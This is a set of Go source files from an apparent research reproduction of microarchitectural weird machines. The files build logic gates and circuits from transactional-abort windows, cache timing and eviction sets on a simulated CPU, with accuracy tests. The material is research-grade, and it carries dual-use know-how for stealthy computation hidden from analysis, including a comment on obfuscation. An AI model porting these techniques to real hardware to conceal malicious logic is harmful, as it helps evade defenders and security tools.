	// timed load, so a hot output line reads at L1 latency (the paper's
	// hit medians) rather than at the tail of its own miss.
	for i := 0; i < 64; i++ {
		t.b.Nop()
	}
	t.b.XBegin("read_abort")
	reg := uint8(isa.R10)
	t.b.Rdtsc(isa.Reg(reg))
	for i, out := range t.outs {
		t.b.Load(isa.Reg(reg+1), out, 0)
		t.b.Rdtsc(isa.Reg(reg + 2))
		reg += 2
		_ = i
	}
	t.b.XEnd().Halt()
	t.b.Label("read_abort")
	reg = uint8(isa.R10)
	t.b.MovI(isa.Reg(reg), 0)
	for i := range t.outs {
		// Strictly increasing timestamps so every per-output delta is
		// far above the threshold: an aborted read yields all zeros.
		t.b.MovI(isa.Reg(reg+2), int64(i+1)<<20)
		reg += 2
	}
	t.b.Halt()
}

// emitFault emits the transaction prologue: enter the region and divide
// by zero. Everything emitted after it runs only transiently.
func (t *tsxBuild) emitFault(handler string) {
	t.b.XBegin(handler).
		MovI(isa.R2, 0).
		MovI(isa.R3, 7).
		Div(isa.R3, isa.R3, isa.R2)
}

// finish builds the program, warms it up and wraps it in a TSXGate.
// The warmup run-through mirrors the paper's skelly, which maps and
// "initializes at run time" each gate's dedicated regions (§6.2): a
// transient window can only execute code that is already in the
// instruction cache, so the very first fire of a cold gate would
// starve its own chain.
func (t *tsxBuild) finish(name string, arity, outputs int, truth func([]int) []int) (*TSXGate, error) {
	prog, err := t.b.Build()
	if err != nil {
		return nil, fmt.Errorf("core: building %s: %w", name, err)
	}
	if prog.End() > prog.Base+codeRegionSize {
		return nil, fmt.Errorf("core: gate %s overflows its code region", name)
	}
	set := make([][2]string, len(t.ins))
	for i := range set {
		set[i] = [2]string{fmt.Sprintf("setin%d_0", i), fmt.Sprintf("setin%d_1", i)}
	}
	g := &TSXGate{
		m: t.m, name: name, arity: arity, outputs: outputs,
		prog: prog, ins: t.ins, outs: t.outs, truth: truth,
		setEntries: set, span: "gate:" + name,
	}
	g.fires, g.readLat = t.m.gateInstruments(name, "tsx")
	for _, entry := range []string{"prep", "fire", "read", "prep"} {
		if _, err := t.m.run(prog, entry); err != nil {
			return nil, fmt.Errorf("core: warming %s/%s: %w", name, entry, err)
		}
	}
	return g, nil
}

// NewTSXAssign builds the transactional assignment gate out := a, the
// pointer-dereference primitive of §4: inside the post-fault window,
// *(*a + &out) reaches the output line only if *a returns in time.
func NewTSXAssign(m *Machine) (*TSXGate, error) {
	t := newTsxBuild(m, "TSX_ASSIGN", 1, 1)
	t.b.Label("prep").Clflush(t.outs[0], 0).Fence().Halt()
	t.b.Label("fire")
	t.emitFault("h0")
	t.b.Load(isa.R4, t.ins[0], 0).
		LoadR(isa.R5, isa.R4, int64(t.outs[0].Addr)).
		XEnd()
	t.b.Label("h0").Halt()
	t.emitRead()
	return t.finish("TSX_ASSIGN", 1, 1, func(in []int) []int { return []int{in[0]} })
}

// NewTSXAnd builds the transactional AND: a single dependent chain
// *(*a + *b + &out) that only completes inside the window when both
// input lines are cached (§4's i2;i3;i4 construction).
func NewTSXAnd(m *Machine) (*TSXGate, error) {
	t := newTsxBuild(m, "TSX_AND", 2, 1)
	t.b.Label("prep").Clflush(t.outs[0], 0).Fence().Halt()
	t.b.Label("fire")
	t.emitFault("h0")
	t.b.Load(isa.R4, t.ins[0], 0).
		AddM(isa.R4, t.ins[1], 0).
		LoadR(isa.R5, isa.R4, int64(t.outs[0].Addr)).
		XEnd()
	t.b.Label("h0").Halt()
	t.emitRead()
	return t.finish("TSX_AND", 2, 1, func(in []int) []int { return []int{in[0] & in[1]} })
}

// NewTSXOr builds the transactional OR: two independent assign chains
// into the same output line.
func NewTSXOr(m *Machine) (*TSXGate, error) {
	t := newTsxBuild(m, "TSX_OR", 2, 1)
	t.b.Label("prep").Clflush(t.outs[0], 0).Fence().Halt()
	t.b.Label("fire")
	t.emitFault("h0")
	t.b.Load(isa.R4, t.ins[0], 0).
		LoadR(isa.R5, isa.R4, int64(t.outs[0].Addr)).
		Load(isa.R6, t.ins[1], 0).
		LoadR(isa.R7, isa.R6, int64(t.outs[0].Addr)).
		XEnd()
	t.b.Label("h0").Halt()
	t.emitRead()
	return t.finish("TSX_OR", 2, 1, func(in []int) []int { return []int{in[0] | in[1]} })
}

// NewTSXAndOr builds the Figure 3 circuit verbatim: one window computes
// q0 := a & b into output 0 and q1 := a | b into output 1.
func NewTSXAndOr(m *Machine) (*TSXGate, error) {
	t := newTsxBuild(m, "TSX_AND_OR", 2, 2)
	t.b.Label("prep").
		Clflush(t.outs[0], 0).
		Clflush(t.outs[1], 0).
		Fence().
		Halt()
	t.b.Label("fire")
	t.emitFault("h0")
	// d3 := d0 ; d3 := d1 ; d2 := d0 & d1 (paper lines 10–12). The
	// AND chain reuses both loads through an address add, so it only
	// issues when both values arrived inside the window.
	t.b.Load(isa.R4, t.ins[0], 0).
		LoadR(isa.R5, isa.R4, int64(t.outs[1].Addr)).
		Load(isa.R6, t.ins[1], 0).
		LoadR(isa.R7, isa.R6, int64(t.outs[1].Addr)).
		Add(isa.R8, isa.R4, isa.R6).
		LoadR(isa.R9, isa.R8, int64(t.outs[0].Addr)).
		XEnd()
	t.b.Label("h0").Halt()
	t.emitRead()
	return t.finish("TSX_AND_OR", 2, 2, func(in []int) []int {
		return []int{in[0] & in[1], in[0] | in[1]}
	})
}

// NewTSXNot builds the transactional NOT: the output line starts
// cached, and a dependent eviction set — reachable only through *a —
// pushes it out of the hierarchy when a is 1.
func NewTSXNot(m *Machine) (*TSXGate, error) {
	t := newTsxBuild(m, "TSX_NOT", 1, 1)
	ways := m.cpu.Hierarchy().L2().Config().Ways
	ev := m.evictBase(t.outs[0], ways, t.tag)
	// prep pre-caches the eviction target and flushes the whole
	// conflict set, so the transient fills wrap the set and evict the
	// target deterministically.
	t.b.Label("prep").Load(isa.R11, t.outs[0], 0)
	for _, e := range ev {
		t.b.Clflush(e, 0)
	}
	t.b.Fence().Halt()
	t.b.Label("fire")
	t.emitFault("h0")
	t.b.Load(isa.R4, t.ins[0], 0)
	for i, e := range ev {
		t.b.LoadR(isa.Reg(uint8(isa.R5)+uint8(i%8)), isa.R4, int64(e.Addr))
	}
	t.b.XEnd()
	t.b.Label("h0").Halt()
	t.emitRead()
	return t.finish("TSX_NOT", 1, 1, func(in []int) []int { return []int{1 - in[0]} })
}

// NewTSXXor builds the §4.1 weird circuit: three transactions chained
// through their abort handlers compute t_or := a|b and t_and := a&b,
// then t_not := !t_and by dependent eviction, then out := t_or & t_not —
// with every intermediate value living only in the data cache. This is
// the XOR the weird obfuscation system's one-time-pad uses.
func NewTSXXor(m *Machine) (*TSXGate, error) {
	t := newTsxBuild(m, "TSX_XOR", 2, 1)
	tAnd := m.layout.AllocLine(t.tag + ".tand")
	tOr := m.layout.AllocLine(t.tag + ".tor")
	tNot := m.layout.AllocLine(t.tag + ".tnot")
	ways := m.cpu.Hierarchy().L2().Config().Ways
	ev := m.evictBase(tNot, ways, t.tag)

	t.b.Label("prep").
		Clflush(t.outs[0], 0).
		Clflush(tAnd, 0).
		Clflush(tOr, 0).
		Load(isa.R11, tNot, 0) // eviction target starts cached
	for _, e := range ev {
		t.b.Clflush(e, 0) // cold conflict set: eviction is deterministic
	}
	t.b.Fence().Halt()

	t.b.Label("fire")
	// Window 1: AND_OR — t_and := a&b, t_or := a|b.
	t.emitFault("h1")
	t.b.Load(isa.R4, t.ins[0], 0).
		LoadR(isa.R5, isa.R4, int64(tOr.Addr)).
		Load(isa.R6, t.ins[1], 0).
		LoadR(isa.R7, isa.R6, int64(tOr.Addr)).
		Add(isa.R8, isa.R4, isa.R6).
		LoadR(isa.R9, isa.R8, int64(tAnd.Addr)).
		XEnd()
	t.b.Label("h1")
	// Window 2: NOT — evict t_not when t_and is cached.
	t.emitFault("h2")
	t.b.Load(isa.R4, tAnd, 0)
	for i, e := range ev {
		t.b.LoadR(isa.Reg(uint8(isa.R5)+uint8(i%8)), isa.R4, int64(e.Addr))
	}
	t.b.XEnd()
	t.b.Label("h2")
	// Window 3: AND — out := t_or & t_not.
	t.emitFault("h3")
	t.b.Load(isa.R4, tOr, 0).
		AddM(isa.R4, tNot, 0).
		LoadR(isa.R5, isa.R4, int64(t.outs[0].Addr)).
		XEnd()
	t.b.Label("h3").Halt()
	t.emitRead()
	return t.finish("TSX_XOR", 2, 1, func(in []int) []int { return []int{in[0] ^ in[1]} })
}
