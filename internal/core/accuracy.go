package core

import (
	"fmt"

	"uwm/internal/noise"
)

// AccuracyReport summarizes an accuracy experiment over one gate, the
// measurement behind the paper's Tables 2, 5 and 8.
type AccuracyReport struct {
	Gate           string
	Operations     int
	Correct        int
	SpuriousAborts int   // noise-injected TSX aborts during the run
	Cycles         int64 // total simulated cycles spent
}

// Accuracy returns the fraction of correct operations.
func (r AccuracyReport) Accuracy() float64 {
	if r.Operations == 0 {
		return 0
	}
	return float64(r.Correct) / float64(r.Operations)
}

// OpsPerSecond converts simulated cycles to an executions-per-second
// figure at the given clock frequency (the paper's machines ran at
// 2.3 GHz), making Table 2's throughput column comparable in shape.
func (r AccuracyReport) OpsPerSecond(hz float64) float64 {
	if r.Cycles == 0 {
		return 0
	}
	return float64(r.Operations) / (float64(r.Cycles) / hz)
}

// String renders the report for logs.
func (r AccuracyReport) String() string {
	return fmt.Sprintf("%s: %d/%d correct (%.5f), %d spurious aborts",
		r.Gate, r.Correct, r.Operations, r.Accuracy(), r.SpuriousAborts)
}

// BitGate is the common evaluation surface of both gate families.
type BitGate interface {
	Name() string
	Arity() int
}

// MeasureBPGate runs n activations of a BP-family gate with uniformly
// random inputs and scores them against the gate's truth table.
func MeasureBPGate(g *BPGate, n int, rng *noise.RNG) (AccuracyReport, error) {
	rep := AccuracyReport{Gate: g.Name(), Operations: n}
	in := make([]int, g.Arity())
	start := g.m.cpu.TSC()
	for i := 0; i < n; i++ {
		for j := range in {
			in[j] = rng.Bit()
		}
		got, err := g.Run(in...)
		if err != nil {
			return rep, err
		}
		if got == g.Golden(in) {
			rep.Correct++
		}
	}
	rep.Cycles = g.m.cpu.TSC() - start
	ops, correct := g.m.accuracyInstruments(g.Name(), "bp")
	ops.Add(uint64(rep.Operations))
	correct.Add(uint64(rep.Correct))
	return rep, nil
}

// MeasureTSXGate runs n activations of a TSX-family gate with uniformly
// random inputs, scoring all outputs; an operation is correct only when
// every output matches (the Table 8 convention for AND-OR).
func MeasureTSXGate(g *TSXGate, n int, rng *noise.RNG) (AccuracyReport, error) {
	rep := AccuracyReport{Gate: g.Name(), Operations: n}
	in := make([]int, g.Arity())
	start := g.m.cpu.TSC()
	abortsBefore := g.m.cpu.Stats().SpuriousAborts
	for i := 0; i < n; i++ {
		for j := range in {
			in[j] = rng.Bit()
		}
		got, err := g.Run(in...)
		if err != nil {
			return rep, err
		}
		want := g.Golden(in)
		ok := true
		for k := range want {
			if got[k] != want[k] {
				ok = false
				break
			}
		}
		if ok {
			rep.Correct++
		}
	}
	rep.Cycles = g.m.cpu.TSC() - start
	rep.SpuriousAborts = int(g.m.cpu.Stats().SpuriousAborts - abortsBefore)
	ops, correct := g.m.accuracyInstruments(g.Name(), "tsx")
	ops.Add(uint64(rep.Operations))
	correct.Add(uint64(rep.Correct))
	return rep, nil
}

// DelaySample is one timed gate activation, keyed by its input vector —
// the rows of Tables 6 and 7 aggregate these per input combination.
type DelaySample struct {
	Inputs []int
	Deltas []int64 // measured read latency per output, in cycles
	Bits   []int
}

// CollectTSXDelays runs n activations per input combination of a TSX
// gate and returns every timed sample, for the delay tables.
func CollectTSXDelays(g *TSXGate, nPerCombo int) ([]DelaySample, error) {
	combos := 1 << g.Arity()
	out := make([]DelaySample, 0, combos*nPerCombo)
	for c := 0; c < combos; c++ {
		in := make([]int, g.Arity())
		for j := range in {
			in[j] = (c >> j) & 1
		}
		for i := 0; i < nPerCombo; i++ {
			bits, deltas, err := g.RunTimed(in...)
			if err != nil {
				return nil, err
			}
			out = append(out, DelaySample{
				Inputs: append([]int(nil), in...),
				Deltas: append([]int64(nil), deltas...),
				Bits:   append([]int(nil), bits...),
			})
		}
	}
	return out, nil
}

// CollectBPTimings runs n activations of a BP gate with random inputs
// and returns (expected output, measured latency) pairs — the samples
// behind the KDE plots of Figures 7 and 8.
func CollectBPTimings(g *BPGate, n int, rng *noise.RNG) (zeros, ones []int64, err error) {
	in := make([]int, g.Arity())
	for i := 0; i < n; i++ {
		for j := range in {
			in[j] = rng.Bit()
		}
		_, delta, err := g.RunTimed(in...)
		if err != nil {
			return nil, nil, err
		}
		if g.Golden(in) == 1 {
			ones = append(ones, delta)
		} else {
			zeros = append(zeros, delta)
		}
	}
	return zeros, ones, nil
}
