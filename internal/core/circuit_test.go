package core

import (
	"strings"
	"testing"

	"uwm/internal/isa"
	"uwm/internal/noise"
)

func TestCircuitSpecValidate(t *testing.T) {
	s := NewCircuitSpec(2)
	w := s.And(0, 1)
	s.Output(w)
	if err := s.Validate(); err != nil {
		t.Fatal(err)
	}

	bad := &CircuitSpec{NumInputs: 1, Gates: []CircuitGate{{Op: CircAnd, A: 0, B: 5, Out: 1}}, Outputs: []WireID{1}}
	if err := bad.Validate(); err == nil {
		t.Error("undefined operand accepted")
	}
	bad2 := &CircuitSpec{NumInputs: 1, Gates: []CircuitGate{{Op: CircNot, A: 0, Out: 3}}, Outputs: []WireID{3}}
	if err := bad2.Validate(); err == nil {
		t.Error("non-sequential wire accepted")
	}
	noOut := NewCircuitSpec(1)
	noOut.Not(0)
	if err := noOut.Validate(); err == nil {
		t.Error("output-less circuit accepted")
	}
}

func TestCircuitSpecEval(t *testing.T) {
	s := NewCircuitSpec(3)
	x := s.Xor(0, 1)
	y := s.And(x, 2)
	s.Output(y)
	s.Output(x)
	for c := 0; c < 8; c++ {
		in := []int{c & 1, c >> 1 & 1, c >> 2 & 1}
		out, err := s.Eval(in)
		if err != nil {
			t.Fatal(err)
		}
		wantX := in[0] ^ in[1]
		if out[1] != wantX || out[0] != wantX&in[2] {
			t.Errorf("eval(%v) = %v", in, out)
		}
	}
	if _, err := s.Eval([]int{1}); err == nil {
		t.Error("wrong arity accepted")
	}
}

func TestCompiledCircuitPrimitives(t *testing.T) {
	m := quiet(t)
	s := NewCircuitSpec(2)
	and := s.And(0, 1)
	or := s.Or(0, 1)
	not := s.Not(0)
	asn := s.Assign(1)
	s.Output(and)
	s.Output(or)
	s.Output(not)
	s.Output(asn)
	c, err := CompileCircuit(m, s)
	if err != nil {
		t.Fatal(err)
	}
	if c.Transactions() != 4 {
		t.Errorf("transactions = %d", c.Transactions())
	}
	for _, in := range combos(2) {
		got, err := c.Run(in...)
		if err != nil {
			t.Fatal(err)
		}
		want := c.Golden(in)
		for k := range want {
			if got[k] != want[k] {
				t.Errorf("in=%v out[%d]=%d want %d", in, k, got[k], want[k])
			}
		}
	}
}

func TestCompiledCircuitXor(t *testing.T) {
	m := quiet(t)
	s := NewCircuitSpec(2)
	s.Output(s.Xor(0, 1))
	c, err := CompileCircuit(m, s)
	if err != nil {
		t.Fatal(err)
	}
	for _, in := range combos(2) {
		got, err := c.Run(in...)
		if err != nil {
			t.Fatal(err)
		}
		if got[0] != in[0]^in[1] {
			t.Errorf("xor%v = %d", in, got[0])
		}
	}
}

// TestCircuitFullAdder runs the §5.2 full adder as a single contiguous
// weird circuit: 2 XOR expansions + carry logic, ~12 chained
// transactions, no architectural intermediate values.
func TestCircuitFullAdder(t *testing.T) {
	m := quiet(t)
	s := NewCircuitSpec(3)
	xab := s.Xor(0, 1)
	sum := s.Xor(xab, 2)
	carry := s.Or(s.And(0, 1), s.And(2, xab))
	s.Output(sum)
	s.Output(carry)
	c, err := CompileCircuit(m, s)
	if err != nil {
		t.Fatal(err)
	}
	for _, in := range combos(3) {
		got, err := c.Run(in...)
		if err != nil {
			t.Fatal(err)
		}
		total := in[0] + in[1] + in[2]
		if got[0] != total&1 || got[1] != total>>1 {
			t.Errorf("adder%v = %v, want (%d,%d)", in, got, total&1, total>>1)
		}
	}
}

// TestCircuitTwoBitAdder chains two full adders through the carry wire —
// a deeper circuit (≈24 transactions) exercising wire reuse across
// levels.
func TestCircuitTwoBitAdder(t *testing.T) {
	m := quiet(t)
	s := NewCircuitSpec(4) // a0 a1 b0 b1
	x0 := s.Xor(0, 2)
	c0 := s.And(0, 2)
	x1 := s.Xor(1, 3)
	sum1 := s.Xor(x1, c0)
	c1 := s.Or(s.And(1, 3), s.And(c0, x1))
	s.Output(x0)   // sum bit 0
	s.Output(sum1) // sum bit 1
	s.Output(c1)   // carry out
	c, err := CompileCircuit(m, s)
	if err != nil {
		t.Fatal(err)
	}
	for a := 0; a < 4; a++ {
		for bv := 0; bv < 4; bv++ {
			in := []int{a & 1, a >> 1, bv & 1, bv >> 1}
			got, err := c.Run(in...)
			if err != nil {
				t.Fatal(err)
			}
			total := a + bv
			want := []int{total & 1, total >> 1 & 1, total >> 2 & 1}
			for k := range want {
				if got[k] != want[k] {
					t.Errorf("%d+%d out[%d]=%d want %d", a, bv, k, got[k], want[k])
				}
			}
		}
	}
}

// TestRandomCircuitsProperty compiles random well-formed netlists and
// checks the weird evaluation against the architectural reference.
func TestRandomCircuitsProperty(t *testing.T) {
	m := quiet(t)
	rng := noise.NewRNG(77)
	for trial := 0; trial < 12; trial++ {
		nIn := 2 + rng.Intn(3)
		s := NewCircuitSpec(nIn)
		nGates := 1 + rng.Intn(6)
		for g := 0; g < nGates; g++ {
			pick := func() WireID { return WireID(rng.Intn(s.NumWires())) }
			switch rng.Intn(4) {
			case 0:
				s.And(pick(), pick())
			case 1:
				s.Or(pick(), pick())
			case 2:
				s.Not(pick())
			case 3:
				s.Assign(pick())
			}
		}
		s.Output(WireID(s.NumWires() - 1))
		c, err := CompileCircuit(m, s)
		if err != nil {
			// Random netlists may exceed the fan-out bound; that is a
			// documented compile-time rejection, not a failure.
			if strings.Contains(err.Error(), "fan-out") {
				continue
			}
			t.Fatalf("trial %d: %v", trial, err)
		}
		for rep := 0; rep < 4; rep++ {
			in := make([]int, nIn)
			for i := range in {
				in[i] = rng.Bit()
			}
			got, err := c.Run(in...)
			if err != nil {
				t.Fatalf("trial %d: %v", trial, err)
			}
			want := c.Golden(in)
			if got[0] != want[0] {
				t.Errorf("trial %d in=%v: got %v want %v\n%s", trial, in, got, want, c.Program().Disassemble())
			}
		}
	}
}

// TestCircuitFireIsInvisible checks §4's stealth property on the
// compiled form: the fire section has no architectural boolean op and
// no store.
func TestCircuitFireIsInvisible(t *testing.T) {
	m := quiet(t)
	s := NewCircuitSpec(2)
	s.Output(s.Xor(0, 1))
	c, err := CompileCircuit(m, s)
	if err != nil {
		t.Fatal(err)
	}
	fire := c.Program().MustEntry("fire")
	read := c.Program().MustEntry("read0")
	for _, op := range []isa.Op{isa.AND, isa.OR, isa.XOR, isa.STORE, isa.STORR} {
		if c.Program().Uses(op, fire, read) {
			t.Errorf("fire section uses %v", op)
		}
	}
}

// TestCircuitUnderNoise: a compiled XOR keeps the Table 8 accuracy band
// under paper noise.
func TestCircuitUnderNoise(t *testing.T) {
	if testing.Short() {
		t.Skip("noise sweep is slow")
	}
	m, err := NewMachine(Options{Seed: 123, Noise: noise.Paper()})
	if err != nil {
		t.Fatal(err)
	}
	s := NewCircuitSpec(2)
	s.Output(s.Xor(0, 1))
	c, err := CompileCircuit(m, s)
	if err != nil {
		t.Fatal(err)
	}
	rng := noise.NewRNG(5)
	correct := 0
	const n = 3000
	for i := 0; i < n; i++ {
		a, b := rng.Bit(), rng.Bit()
		got, err := c.Run(a, b)
		if err != nil {
			t.Fatal(err)
		}
		if got[0] == a^b {
			correct++
		}
	}
	acc := float64(correct) / n
	if acc < 0.88 || acc > 0.999 {
		t.Errorf("compiled XOR accuracy %.4f outside the expected band", acc)
	}
}

// TestCircuitEightBitAdder compiles a full 8-bit ripple-carry adder as
// ONE contiguous weird circuit (~100 chained transactions) and checks
// random sums — the depth/scale stress test for §4's composition claim.
func TestCircuitEightBitAdder(t *testing.T) {
	if testing.Short() {
		t.Skip("large circuit")
	}
	m := quiet(t)
	s := NewCircuitSpec(16) // a0..a7, b0..b7
	carry := WireID(-1)
	var sums []WireID
	for i := 0; i < 8; i++ {
		a, b := WireID(i), WireID(8+i)
		x := s.Xor(a, b)
		if carry < 0 {
			sums = append(sums, s.Assign(x))
			carry = s.And(a, b)
			continue
		}
		sums = append(sums, s.Xor(x, carry))
		carry = s.Or(s.And(a, b), s.And(carry, x))
	}
	for _, w := range sums {
		s.Output(w)
	}
	s.Output(carry)
	c, err := CompileCircuit(m, s)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("8-bit adder: %d chained transactions, %d wires", c.Transactions(), s.NumWires())

	rng := noise.NewRNG(31)
	for trial := 0; trial < 10; trial++ {
		av := int(rng.Uint64() & 0xFF)
		bv := int(rng.Uint64() & 0xFF)
		in := make([]int, 16)
		for i := 0; i < 8; i++ {
			in[i] = av >> i & 1
			in[8+i] = bv >> i & 1
		}
		got, err := c.Run(in...)
		if err != nil {
			t.Fatal(err)
		}
		total := av + bv
		for i := 0; i < 8; i++ {
			if got[i] != total>>i&1 {
				t.Errorf("%d+%d: sum bit %d = %d", av, bv, i, got[i])
			}
		}
		if got[8] != total>>8 {
			t.Errorf("%d+%d: carry = %d", av, bv, got[8])
		}
	}
}
