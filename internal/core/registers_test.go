package core

import (
	"testing"
)

// testWR exercises write-read round trips for a weird register.
func testWR(t *testing.T, name string, build func(*Machine) (WeirdRegister, error)) {
	t.Helper()
	m := quiet(t)
	r, err := build(m)
	if err != nil {
		t.Fatalf("build %s: %v", name, err)
	}
	for rep := 0; rep < 4; rep++ {
		for _, bit := range []int{0, 1, 1, 0} {
			if err := r.Write(bit); err != nil {
				t.Fatalf("%s write: %v", name, err)
			}
			got, err := r.Read()
			if err != nil {
				t.Fatalf("%s read: %v", name, err)
			}
			if got != bit {
				t.Errorf("%s rep %d: wrote %d read %d", name, rep, bit, got)
			}
		}
	}
}

func TestDCWR(t *testing.T) {
	testWR(t, "dc", func(m *Machine) (WeirdRegister, error) { return NewDCWR(m) })
}
func TestICWR(t *testing.T) {
	testWR(t, "ic", func(m *Machine) (WeirdRegister, error) { return NewICWR(m) })
}
func TestBPWR(t *testing.T) {
	testWR(t, "bp", func(m *Machine) (WeirdRegister, error) { return NewBPWR(m) })
}
func TestBTBWR(t *testing.T) {
	testWR(t, "btb", func(m *Machine) (WeirdRegister, error) { return NewBTBWR(m) })
}
func TestMulWR(t *testing.T) {
	testWR(t, "mul", func(m *Machine) (WeirdRegister, error) { return NewMulWR(m) })
}
func TestROBWR(t *testing.T) {
	testWR(t, "rob", func(m *Machine) (WeirdRegister, error) { return NewROBWR(m) })
}

// TestContentionVolatility checks §3.1's volatility property: contention
// registers lose their value after a few hundred idle cycles.
func TestContentionVolatility(t *testing.T) {
	m := quiet(t)
	mul, err := NewMulWR(m)
	if err != nil {
		t.Fatal(err)
	}
	if err := mul.Write(1); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 8; i++ {
		if err := mul.Idle(); err != nil {
			t.Fatal(err)
		}
	}
	got, err := mul.Read()
	if err != nil {
		t.Fatal(err)
	}
	if got != 0 {
		t.Errorf("mul WR still holds 1 after ~2000 idle cycles; want decay to 0")
	}

	rob, err := NewROBWR(m)
	if err != nil {
		t.Fatal(err)
	}
	if err := rob.Write(1); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 8; i++ {
		if err := rob.Idle(); err != nil {
			t.Fatal(err)
		}
	}
	got, err = rob.Read()
	if err != nil {
		t.Fatal(err)
	}
	if got != 0 {
		t.Errorf("rob WR still holds 1 after idle; want decay to 0")
	}
}

// TestDCWRReadIsInvasive checks §3.1's state-decoherence property: a
// read of a DC-WR holding 0 leaves it holding 1.
func TestDCWRReadIsInvasive(t *testing.T) {
	m := quiet(t)
	r, err := NewDCWR(m)
	if err != nil {
		t.Fatal(err)
	}
	if err := r.Write(0); err != nil {
		t.Fatal(err)
	}
	if got, _ := r.Read(); got != 0 {
		t.Fatalf("read after write 0 = %d", got)
	}
	// The read loaded the line: the register now reads 1.
	if got, _ := r.Read(); got != 1 {
		t.Errorf("second read = %d; reading should have destroyed the 0", got)
	}
}
