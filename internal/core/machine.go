// Package core implements the paper's primary contribution: the
// microarchitectural weird machine (μWM). It provides
//
//   - weird registers (WR): storage entities encoded in
//     microarchitectural state — data-cache residency (DC-WR),
//     instruction-cache residency (IC-WR), branch-predictor training
//     state (BP-WR), BTB targets, and volatile contention registers
//     (§3.1, Table 1);
//   - weird gates (WG): code constructions whose logic emerges from
//     races between speculative-execution windows and cache-miss
//     latencies — the branch-predictor/instruction-cache family of
//     Figures 1 and 2, and the TSX post-fault family of Figure 3 and
//     §4.1;
//   - weird circuits (WC): gate ensembles whose intermediate values flow
//     through the microarchitecture only (§4).
//
// Every gate is assembled as an isa.Program and executed on the
// simulated CPU of package cpu; no gate's logic uses an architectural
// boolean instruction on the weird data, a property the test suite
// verifies by disassembly.
package core

import (
	"fmt"

	"uwm/internal/cpu"
	"uwm/internal/isa"
	"uwm/internal/mem"
	"uwm/internal/metrics"
	"uwm/internal/noise"
	"uwm/internal/stats"
	"uwm/internal/trace"
)

// Default address-space carve-up. Data and code live far apart; each
// gate receives its own code region and its own data lines.
//
// The data base is offset so that data lines occupy L2 sets starting at
// 512 while code lines (base ≡ set 0) grow upward from set 0: an
// eviction-set gate wraps its victim's entire L2 set, and with shared
// sets it would back-invalidate *code* lines of later gates, starving
// their transient windows. Keeping the ranges disjoint is the address-
// space planning the paper's skelly calls alignment management (§6.2);
// it holds for up to 32 KiB of hot gate code and 32 KiB of gate data
// per machine.
const (
	defaultDataBase mem.Addr = 0x0010_8000 // L2 set 512
	defaultCodeBase mem.Addr = 0x0400_0000 // L2 set 0

	// evictStride is the address stride between lines that alias in
	// both the L1D set index (stride 4 KiB) and the L2 set index
	// (stride 64 KiB): 64 KiB satisfies both. Eviction-set gates
	// (NOT/NAND) place their conflict lines at this stride.
	evictStride = 64 * 1024

	// codeRegionSize is the space reserved per gate program.
	codeRegionSize = 4096
)

// Options configures a Machine.
type Options struct {
	// Seed drives all randomness (noise and harness-level choices).
	Seed uint64
	// Noise selects the system-noise model; the zero value is a quiet,
	// deterministic machine. Use noise.Paper() for paper-calibrated
	// behaviour.
	Noise noise.Config
	// CPU overrides the execution-model parameters; the zero value
	// selects cpu.DefaultConfig().
	CPU *cpu.Config
	// TrainIterations is how many times a BP-WR write executes the
	// gate branch with the desired direction. Two suffice for a 2-bit
	// counter; the default of 100 mirrors the heavy mistraining loops
	// that make the paper's non-TSX gates ~25× slower than TSX ones
	// (Table 2). Skelly overrides it downward for throughput.
	TrainIterations int
	// Trace attaches an event recorder when non-nil.
	Trace *trace.Recorder
	// Sink attaches a streaming event sink when non-nil (a file
	// exporter, for example). Trace and Sink may both be set; events
	// fan out to both.
	Sink trace.Sink
	// Metrics attaches a metrics registry when non-nil: the machine
	// registers its CPU, cache, branch and gate instruments on it.
	Metrics *metrics.Registry
	// HealthTap, when non-nil, receives only the machine's calibration
	// and timed-read events — the minimal feed a gate-health monitor
	// needs — regardless of whether a full trace sink is attached. The
	// tap deliberately bypasses the Enabled elision that keeps untraced
	// hot paths free: it never triggers per-instruction event assembly,
	// because the CPU core does not see it.
	HealthTap trace.Sink
}

// Machine owns the simulated hardware plus the calibrated timing
// threshold, and hands out code/data regions to gates. All gates built
// from one Machine share its caches and predictors, which is what lets
// them be composed into circuits.
type Machine struct {
	opts      Options
	mem       *mem.Memory
	layout    *mem.Layout
	cpu       *cpu.CPU
	ns        *noise.Source
	reg       *metrics.Registry
	codeNext  mem.Addr
	evictNext mem.Addr
	threshold int64
	gateSeq   int

	// Calibration assets are built once and reused by Recalibrate: the
	// probe symbol and program cannot be rebuilt, as Layout.AllocLine
	// rejects duplicate names and codeRegion bump-allocates.
	calibProbe mem.Symbol
	calibProg  *isa.Program
	calibCount int64

	// healthTap receives calibration and timed-read events only (see
	// Options.HealthTap).
	healthTap trace.Sink

	// Profiling-span state (see spans.go): monotonically increasing span
	// ids and the stack of currently open frames.
	spanSeq   uint64
	spanStack []spanFrame
}

// NewMachine builds and calibrates a Machine.
func NewMachine(opts Options) (*Machine, error) {
	cfg := cpu.DefaultConfig()
	if opts.CPU != nil {
		cfg = *opts.CPU
	}
	if opts.TrainIterations == 0 {
		opts.TrainIterations = 100
	}
	ns := noise.NewSource(opts.Seed, opts.Noise)
	m := mem.New()
	c := cpu.New(cfg, m, ns)
	var sinks []trace.Sink
	if opts.Trace != nil {
		sinks = append(sinks, opts.Trace)
	}
	if opts.Sink != nil {
		sinks = append(sinks, opts.Sink)
	}
	if s := trace.Tee(sinks...); s != nil {
		c.SetSink(s)
	}
	c.RegisterMetrics(opts.Metrics)
	mach := &Machine{
		opts:      opts,
		mem:       m,
		layout:    mem.NewLayout(defaultDataBase),
		cpu:       c,
		ns:        ns,
		reg:       opts.Metrics,
		codeNext:  defaultCodeBase,
		evictNext: defaultDataBase + 16*evictStride,
		healthTap: opts.HealthTap,
	}
	if err := mach.calibrate(); err != nil {
		return nil, fmt.Errorf("core: calibration failed: %w", err)
	}
	mach.reg.Gauge(MetricThreshold, "calibrated hit/miss timing boundary in cycles").
		Set(float64(mach.threshold))
	return mach, nil
}

// MustNewMachine is NewMachine panicking on error, for tests and
// examples with static configurations.
func MustNewMachine(opts Options) *Machine {
	m, err := NewMachine(opts)
	if err != nil {
		panic(err)
	}
	return m
}

// CPU returns the simulated processor.
func (m *Machine) CPU() *cpu.CPU { return m.cpu }

// Layout returns the data symbol table.
func (m *Machine) Layout() *mem.Layout { return m.layout }

// Mem returns the architectural memory.
func (m *Machine) Mem() *mem.Memory { return m.mem }

// Noise returns the machine's noise source.
